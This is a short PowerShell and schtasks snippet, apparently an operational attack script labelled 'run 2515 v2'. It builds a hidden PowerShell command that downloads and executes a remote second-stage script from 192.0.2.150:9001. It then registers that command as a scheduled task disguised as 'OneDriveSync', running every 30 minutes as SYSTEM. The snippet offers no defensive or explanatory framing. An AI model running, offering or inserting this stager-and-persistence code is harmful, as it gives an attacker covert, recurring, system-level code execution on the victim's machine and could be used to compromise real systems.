# run 2515 v2
$cmd = "powershell.exe -nop -w hidden -c `"IEX ((new-object net.webclient).downloadstring('http://192.0.2.150:9001/stage2.ps1'))`""
schtasks /create /tn "OneDriveSync" /tr $cmd /sc minute /mo 30 /ru SYSTEM /f
